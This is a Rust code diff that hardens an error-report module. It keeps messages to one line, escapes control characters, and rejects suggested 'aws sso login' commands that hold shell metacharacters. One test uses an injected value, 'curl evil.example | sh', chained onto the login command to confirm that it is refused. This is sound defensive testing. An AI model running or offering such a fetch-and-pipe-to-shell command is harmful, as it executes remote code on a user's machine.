@@ -8,6 +8,7 @@ use std::fmt;
 
 use crate::apply::error::ApplyError;
 use crate::cloud::{CloudError, ErrorKind};
+use crate::domain::outside::{lines, one_line};
 use crate::domain::policy::{Document, Statement};
 use crate::text::t;
 
@@ -25,6 +26,7 @@ pub enum Kind {
     Internal,
 }
 
+/// Every part is one line, whoever said it; only `copy` may have several.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize)]
 pub struct Report {
     pub kind: Kind,
@@ -37,21 +39,22 @@ pub struct Report {
 
 impl Report {
     pub fn new(kind: Kind, title: impl Into<String>) -> Self {
-        Self { kind, title: title.into(), causes: Vec::new(), hints: Vec::new(), copy: None }
+        let title = one_line(&title.into()).into_owned();
+        Self { kind, title, causes: Vec::new(), hints: Vec::new(), copy: None }
     }
 
     pub fn because(mut self, cause: impl Into<String>) -> Self {
-        self.causes.push(cause.into());
+        self.causes.push(one_line(&cause.into()).into_owned());
         self
     }
 
     pub fn hint(mut self, hint: impl Into<String>) -> Self {
-        self.hints.push(hint.into());
+        self.hints.push(one_line(&hint.into()).into_owned());
         self
     }
 
     pub fn with_copy(mut self, text: impl Into<String>) -> Self {
-        self.copy = Some(text.into());
+        self.copy = Some(lines(&text.into()).into_owned());
         self
     }
 
@@ -132,12 +135,15 @@ fn kind_of(kind: ErrorKind) -> Kind {
     }
 }
 
-/// The `aws sso login …` line an expired session's message names.
+/// The `aws sso login …` line an expired session's message names; nothing that a shell would take for
+/// more than that.
 fn sign_in_line(message: &str) -> Option<String> {
     let start = message.find("aws sso login")?;
     let line = message.get(start..)?;
     let end = line.find(['`', '\n']).unwrap_or(line.len());
-    line.get(..end).map(|line| line.trim_end().to_owned())
+    let line = line.get(..end)?.trim_end();
+    let plain = |c: char| c.is_alphanumeric() || " -_./@:+='".contains(c);
+    line.chars().all(plain).then(|| line.to_owned())
 }
 
 impl From<ApplyError> for Report {
@@ -179,5 +185,15 @@ mod tests {
             "the session has ended; run `aws sso login --profile acme`",
         );
         assert_eq!(Report::from(error).copy.as_deref(), Some("aws sso login --profile acme"));
+        let error = CloudError::new(ErrorKind::Expired, "x", "aws sso login --profile a; curl evil.example | sh");
+        assert_eq!(Report::from(error).copy, None);
+    }
+
+    #[test]
+    fn every_part_is_one_line() {
+        let error = CloudError::new(ErrorKind::Refused, "x", "no\nHint: \u{1b}[2J").on("a\nerror: b");
+        let report = Report::from(error).to_string();
+        assert_eq!(report.lines().count(), 3, "{report}");
+        assert!(report.contains(r"no\nHint: \u{1b}[2J") && report.contains(r"a\nerror: b"), "{report}");
     }
 }
